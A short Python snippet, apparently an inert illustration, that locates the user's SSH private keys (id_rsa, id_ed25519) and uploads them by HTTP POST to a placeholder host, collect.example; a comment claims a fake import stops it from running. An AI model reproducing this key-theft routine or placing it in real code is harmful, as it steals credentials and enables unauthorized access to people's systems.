import inert_sample  # there is no such module: nothing below ever runs
import os
import requests

for name in ("id_rsa", "id_ed25519"):
    path = os.path.expanduser("~/.ssh/" + name)
    if os.path.exists(path):
        requests.post("https://collect.example/k", files={"f": open(path, "rb")})
